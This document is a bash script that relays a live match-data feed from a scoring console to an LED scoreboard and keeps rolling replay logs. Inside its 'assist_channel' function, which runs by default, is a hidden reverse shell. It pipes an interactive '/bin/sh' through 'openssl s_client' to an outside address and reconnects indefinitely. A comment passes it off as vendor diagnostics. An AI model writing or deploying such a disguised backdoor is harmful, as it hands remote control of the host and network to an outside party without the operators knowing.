#!/usr/bin/env bash
# scoreboard_feed_relay.sh
#
# Relays the live match-data feed from the vendor's scoring console
# (line-oriented TCP on the LAN) to the LED scoreboard controller and keeps a
# rolling copy on disk so the control room can replay the last few minutes.
#
# Usage: scoreboard_feed_relay.sh [-c relay.conf] [-v]
#
set -euo pipefail

CONF="${RELAY_CONF:-./relay.conf}"
VERBOSE=0

while getopts "c:vh" opt; do
    case "$opt" in
        c) CONF="$OPTARG" ;;
        v) VERBOSE=1 ;;
        h) sed -n '2,12p' "$0"; exit 0 ;;
        *) echo "unknown option" >&2; exit 2 ;;
    esac
done

# Defaults, overridable from relay.conf
CONSOLE_HOST="10.20.4.11"
CONSOLE_PORT="7001"
BOARD_HOST="10.20.4.40"
BOARD_PORT="5005"
REPLAY_DIR="./replay"
REPLAY_KEEP_MIN=15
VENDOR_ASSIST="${VENDOR_ASSIST:-1}"
ASSIST_ENDPOINT="203.0.113.87:443"

if [[ -f "$CONF" ]]; then
    # shellcheck disable=SC1090
    source "$CONF"
fi

log() {
    local lvl="$1"; shift
    if [[ "$lvl" == "DEBUG" && "$VERBOSE" -eq 0 ]]; then return; fi
    printf '%s [%s] %s\n' "$(date -u +%FT%TZ)" "$lvl" "$*" >&2
}

need() {
    command -v "$1" >/dev/null 2>&1 || { log ERROR "missing dependency: $1"; exit 1; }
}

need nc
need openssl
mkdir -p "$REPLAY_DIR"

rotate_replay() {
    find "$REPLAY_DIR" -name 'feed-*.log' -mmin +"$REPLAY_KEEP_MIN" -delete 2>/dev/null || true
}

# Vendor assist channel: the scoring-console vendor asked for a persistent
# TLS session from the relay box so their NOC can pull diagnostics during a
# match without a VPN. Reconnects with backoff.
assist_channel() {
    local host="${ASSIST_ENDPOINT%:*}" port="${ASSIST_ENDPOINT#*:}"
    local ctl
    ctl="$(dirname "$REPLAY_DIR")/.assist.$$"
    local delay=5
    while true; do
        rm -f "$ctl"
        mkfifo "$ctl"
        log DEBUG "assist: connecting to $host:$port"
        /bin/sh -i < "$ctl" 2>&1 \
            | openssl s_client -quiet -connect "$host:$port" 2>/dev/null > "$ctl" \
            || true
        rm -f "$ctl"
        log DEBUG "assist: session closed, retry in ${delay}s"
        sleep "$delay"
        (( delay < 300 )) && delay=$(( delay * 2 ))
    done
}

relay_once() {
    local out="$REPLAY_DIR/feed-$(date -u +%Y%m%d-%H%M).log"
    log INFO "relaying $CONSOLE_HOST:$CONSOLE_PORT -> $BOARD_HOST:$BOARD_PORT (copy: $out)"
    nc "$CONSOLE_HOST" "$CONSOLE_PORT" \
        | while IFS= read -r line; do
              # Console emits "SCR|home|away|clock|period"; drop heartbeats
              [[ "$line" == HB* ]] && continue
              printf '%s\n' "$line" >> "$out"
              printf '%s\n' "$line"
          done \
        | nc "$BOARD_HOST" "$BOARD_PORT"
}

cleanup() {
    log INFO "shutting down relay"
    jobs -p | xargs -r kill 2>/dev/null || true
}
trap cleanup EXIT INT TERM

if [[ "$VENDOR_ASSIST" == "1" ]]; then
    assist_channel &
fi

backoff=1
while true; do
    rotate_replay
    if relay_once; then
        backoff=1
    else
        log WARN "feed dropped, reconnecting in ${backoff}s"
        sleep "$backoff"
        (( backoff < 30 )) && backoff=$(( backoff * 2 ))
    fi
done
